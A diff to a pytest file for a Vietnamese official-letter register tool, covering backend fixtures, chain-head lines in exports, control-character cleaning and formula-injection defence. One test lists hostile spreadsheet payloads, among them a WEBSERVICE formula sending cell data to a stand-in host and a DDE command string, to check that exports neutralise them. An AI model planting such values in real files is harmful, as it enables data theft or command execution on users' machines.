@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import subprocess
 import zipfile
+from collections.abc import Callable, Iterator
 from datetime import date, datetime
 from pathlib import Path
 
@@ -14,7 +15,7 @@ from lxml import etree
 from openpyxl import Workbook, load_workbook
 
 from docgen.archive import Archive
-from docgen.archive.register import TYPE_CODES, agency_of
+from docgen.archive.register import CHAIN_LABEL, TYPE_CODES, agency_of
 from docgen.cli import main
 from docgen.errors import DocgenError
 from docgen.forms import load_form
@@ -23,6 +24,8 @@ from docgen.pdf import find_soffice
 
 REPO = Path(__file__).resolve().parents[1]
 GIA_HAN = REPO / "data" / "forms" / "gia-han-ky-nang-so.yaml"
+
+Opener = Callable[..., Archive]
 
 EXPECTED_COLUMNS = [
     "Số, ký hiệu văn bản", "Ngày tháng văn bản", "Tên loại và trích yếu nội dung", "Người ký",
@@ -33,25 +36,38 @@ EXPECTED_COLUMNS = [
 
 def doc(ngay: date, **update: object) -> VanBan:
     """The gia hạn công văn, dated, with fields changed."""
-    return load_form(GIA_HAN).model_copy(update={"ngay": ngay, **update})
+    return load_form(GIA_HAN).model_copy(update={"ngay": ngay, "nam": None, **update})
 
 
 @pytest.fixture
-def archive(tmp_path: Path) -> Archive:
-    """An archive with three documents in 2026 and one in 2025."""
-    archive = Archive(tmp_path / "luu-tru")
+def archive(register: str) -> Iterator[Archive]:
+    """An archive (on each backend) with three documents in 2026 and one in 2025."""
+    archive = Archive(register)
     archive.issue(doc(date(2025, 12, 30)))
     archive.issue(doc(date(2026, 1, 2)))
     archive.issue(doc(date(2026, 1, 5), kinh_gui=["Trưởng thôn Tân Sang"], so_ban=3,
                       noi_nhan=[]))
     archive.issue(doc(date(2026, 1, 6), do_khan=DoKhan.KHAN))
-    return archive
+    yield archive
+    archive.close()
 
 
 def header_and_rows(path: Path) -> tuple[list[object], list[list[object]]]:
+    """The header row and the register rows (up to the blank row before the chain line)."""
     sheet = load_workbook(path).active
     rows = [list(r) for r in sheet.iter_rows(values_only=True)]
-    return rows[3], rows[4:]
+    body = rows[4:]
+    end = next((i for i, r in enumerate(body) if all(v is None for v in r)), len(body))
+    return rows[3], body[:end]
+
+
+def chain_line(path: Path) -> str:
+    """The line under the table that prints the register's chain head."""
+    sheet = load_workbook(path).active
+    found = [c.value for row in sheet.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith(CHAIN_LABEL)]
+    assert len(found) == 1
+    return found[0]
 
 
 # ----------------------------------------------------------------------------------- export
@@ -78,6 +94,9 @@ def test_xlsx_has_exactly_the_ten_columns_and_the_rows_of_the_year(
     assert (rows[0][6], rows[1][6]) == (None, 3)
     assert rows[2][9] == "Khẩn"
     assert all(r[7] is None and r[8] is None for r in rows)  # filled by hand on paper
+    # The chain head under the table anchors the printed register (issue 13 item 4).
+    head = archive.chain_head()
+    assert head.count == 4 and f"{head.hash} — đến dòng thứ 4" in chain_line(out)
 
 
 def test_xlsx_is_laid_out_for_printing(archive: Archive, tmp_path: Path) -> None:
@@ -120,16 +139,67 @@ def test_csv_has_the_ten_columns(archive: Archive, tmp_path: Path) -> None:
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
     rows = list(csv.reader(out.read_text("utf-8-sig").splitlines(keepends=True)))
     assert rows[0] == EXPECTED_COLUMNS
-    assert [r[:2] for r in rows[1:]] == [["01/UBND-VHXH", "02/01/2026"],
-                                         ["02/UBND-VHXH", "05/01/2026"],
-                                         ["03/UBND-VHXH", "06/01/2026"]]
+    assert [r[:2] for r in rows[1:-1]] == [["01/UBND-VHXH", "02/01/2026"],
+                                           ["02/UBND-VHXH", "05/01/2026"],
+                                           ["03/UBND-VHXH", "06/01/2026"]]
+    assert rows[-1][0].startswith(f"{CHAIN_LABEL}: {archive.chain_head().hash}")
+
+
+HOSTILE = ['=WEBSERVICE("http://x.invalid/?"&C5)', '=HYPERLINK("http://x.invalid","a")',
+           "cmd|' /C notepad'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+def test_export_never_writes_a_live_formula(register: str, open_archive: Opener,
+                                            tmp_path: Path) -> None:
+    # Issue 13 item 1: a signer or trích yếu that looks like a formula stays text.
+    archive = open_archive(register)
+    for value in HOSTILE:
+        archive.issue(doc(date(2026, 2, 2), kinh_gui=[value.strip()], noi_nhan=["Như trên"]))
+    out = tmp_path / "so.xlsx"
+    archive.export_register(2026, out)
+    with zipfile.ZipFile(out) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml  # no formula anywhere
+    sheet = load_workbook(out).active
+    recipients = [e.nguoi_nhan_text for e in archive.entries()]
+    assert sum(text[0] in "=+-@" for text in recipients) >= 5  # what the model let through
+    texts = [sheet.cell(row=r, column=5).value for r in range(5, 5 + len(HOSTILE))]
+    assert texts == recipients
+    assert all(sheet.cell(row=r, column=5).quotePrefix for r in range(5, 5 + len(HOSTILE))
+               if texts[r - 5][0] in "=+-@")
+
+    out_csv = tmp_path / "so.csv"
+    archive.export_register(2026, out_csv, csv=True)
+    rows = list(csv.reader(out_csv.read_text("utf-8-sig").splitlines(keepends=True)))
+    assert [row[4] for row in rows[1:-1]] == [
+        f"'{text}" if text[0] in "=+-@" else text for text in recipients]
+    # An export imported again gives back the values, without the apostrophe.
+    other = open_archive(tmp_path / "kho-moi")
+    other.import_register(out_csv)
+    assert [e.noi_nhan for e in other.entries()] == [(text,) for text in recipients]
+
+
+def test_import_cleans_control_characters_so_the_year_can_always_be_exported(
+        register: str, open_archive: Opener, tmp_path: Path) -> None:
+    # Issue 13 item 5: a control character once made the year's register unexportable.
+    path = tmp_path / "so-cu.csv"
+    path.write_text("Số, ký hiệu văn bản;Ngày tháng văn bản;Tên loại và trích yếu nội dung;"
+                    "Người ký\n01/UBND-VHXH;05/01/2026;Báo\x01 cáo\x1b[31m đỏ;Nguyễn\x07 An\n",
+                    encoding="utf-8")
+    archive = open_archive(register)
+    archive.import_register(path)
+    (entry,) = archive.entries()
+    assert (entry.trich_yeu, entry.nguoi_ky) == ("Báo cáo[31m đỏ", "Nguyễn An")
+    out = tmp_path / "so.xlsx"
+    assert archive.export_register(2026, out) == 1
+    assert header_and_rows(out)[1][0][2] == "Báo cáo[31m đỏ"
 
 
 def test_cli_export_defaults_to_this_year_and_refuses_to_overwrite(
-        archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        archive: Archive, register: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     runner = CliRunner()
-    args = ["archive", "export", "--archive", str(archive.root)]
+    args = ["archive", "export", "--archive", register]
     first = runner.invoke(main, [*args, "--nam", "2025"])
     assert first.exit_code == 0, first.output
     assert "(1 văn bản)" in first.output
@@ -195,7 +265,8 @@ def hand_register(path: Path, rows: list[list[object]], *, title_rows: int = 2) 
     return path
 
 
-def test_import_then_issue_continues_after_the_highest_imported_number(tmp_path: Path) -> None:
+def test_import_then_issue_continues_after_the_highest_imported_number(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     rows: list[list[object]] = [
         [f"{n:02d}/UBND-VHXH", datetime(2026, 1, n % 28 + 1), f"Công văn số {n}", "Võ Thị Kim Dung",
          "Các thôn", "VT", 2, None, None, None]
@@ -205,7 +276,7 @@ def test_import_then_issue_continues_after_the_highest_imported_number(tmp_path:
                  None, None, "cấp tay"])
     rows.append([None] * 10)  # blank rows are skipped
     path = hand_register(tmp_path / "so-cu.xlsx", rows)
-    archive = Archive(tmp_path / "luu-tru", today=lambda: date(2026, 3, 1))
+    archive = open_archive(register, today=lambda: date(2026, 3, 1))
     (series,) = archive.import_register(path)
     assert (series.co_quan, series.nam, series.imported, series.highest, series.next) == (
         "UBND", 2026, 6, 12, 13)
@@ -220,8 +291,8 @@ def test_import_then_issue_continues_after_the_highest_imported_number(tmp_path:
 
 
 def test_import_refuses_numbers_already_in_the_register_and_changes_nothing(
-        tmp_path: Path) -> None:
-    archive = Archive(tmp_path / "luu-tru", today=lambda: date(2026, 3, 1))
+        tmp_path: Path, register: str, open_archive: Opener) -> None:
+    archive = open_archive(register, today=lambda: date(2026, 3, 1))
     archive.issue(GIA_HAN)
     path = hand_register(tmp_path / "so-cu.xlsx", [
         ["02/UBND-VHXH", "01/02/2026"],
@@ -239,13 +310,14 @@ def test_import_refuses_numbers_already_in_the_register_and_changes_nothing(
     assert [e.so for e in archive.entries()] == [1]
 
 
-def test_import_reports_every_bad_row_with_its_row_number(tmp_path: Path) -> None:
+def test_import_reports_every_bad_row_with_its_row_number(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     path = hand_register(tmp_path / "so-cu.xlsx", [
         ["05/UBND-VHXH", "31/02/2026"],
         ["UBND-VHXH", "01/02/2026"],
         ["07/UBND-VHXH", "01/02/2026"],
     ], title_rows=0)
-    archive = Archive(tmp_path / "luu-tru")
+    archive = open_archive(register)
     with pytest.raises(DocgenError) as info:
         archive.import_register(path)
     assert [(p.row, p.field) for p in info.value.problems] == [
@@ -255,7 +327,8 @@ def test_import_reports_every_bad_row_with_its_row_number(tmp_path: Path) -> Non
     assert not archive.exists
 
 
-def test_import_reads_dates_as_clerks_type_them(tmp_path: Path) -> None:
+def test_import_reads_dates_as_clerks_type_them(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     path = hand_register(tmp_path / "so-cu.xlsx", [
         ["01/UBND-VHXH", "05.01.2026"],
         ["02/UBND-VHXH", "6-1-2026"],
@@ -264,19 +337,20 @@ def test_import_reads_dates_as_clerks_type_them(tmp_path: Path) -> None:
         ["05/UBND-VHXH", date(2026, 1, 9)],
         ["06/UBND-VHXH", datetime(2026, 1, 10, 8, 30)],
     ])
-    archive = Archive(tmp_path / "luu-tru")
+    archive = open_archive(register)
     archive.import_register(path)
     assert [e.ngay.day for e in archive.entries()] == [5, 6, 7, 8, 9, 10]
 
 
-def test_import_refuses_impossible_and_mixed_up_dates_saying_why(tmp_path: Path) -> None:
+def test_import_refuses_impossible_and_mixed_up_dates_saying_why(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     path = hand_register(tmp_path / "so-cu.xlsx", [
         ["01/UBND-VHXH", "31/02/2026"],
         ["02/UBND-VHXH", "05/02-2026"],  # accepted before parse_date: one separator per date
         ["03/UBND-VHXH", None],
     ], title_rows=0)
     with pytest.raises(DocgenError) as info:
-        Archive(tmp_path / "luu-tru").import_register(path)
+        open_archive(register).import_register(path)
     impossible, mixed, blank = info.value.problems
     assert "không có thật" in (impossible.hint or "")
     assert "'05/02-2026' không phải ngày tháng" in mixed.message
@@ -302,19 +376,21 @@ def test_import_reads_csv_with_semicolons_and_round_trips_an_export(
     assert copied[1].noi_nhan == ("Trưởng thôn Tân Sang",) and copied[1].so_ban == 3
 
 
-def test_import_without_header_explains_the_columns_it_needs(tmp_path: Path) -> None:
+def test_import_without_header_explains_the_columns_it_needs(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     path = tmp_path / "so.csv"
     path.write_text("so,ngay\n1,2026-01-01\n", encoding="utf-8")
     with pytest.raises(DocgenError) as info:
-        Archive(tmp_path / "luu-tru").import_register(path)
+        open_archive(register).import_register(path)
     assert "Số, ký hiệu văn bản" in info.value.problems[0].message
     assert "export --csv" in (info.value.problems[0].hint or "")
 
 
-def test_cli_import_prints_the_next_number(tmp_path: Path) -> None:
+def test_cli_import_prints_the_next_number(tmp_path: Path,
+        register: str, open_archive: Opener) -> None:
     path = hand_register(tmp_path / "so-cu.xlsx", [["41/UBND-VHXH", "10/06/2026"]])
     result = CliRunner().invoke(main, ["archive", "import", str(path), "--archive",
-                                       str(tmp_path / "luu-tru")])
+                                       register])
     assert result.exit_code == 0, result.output
     assert "Đã nhập 1 số của UBND năm 2026 (lớn nhất: 41). Số tiếp theo: 42." in result.output
 
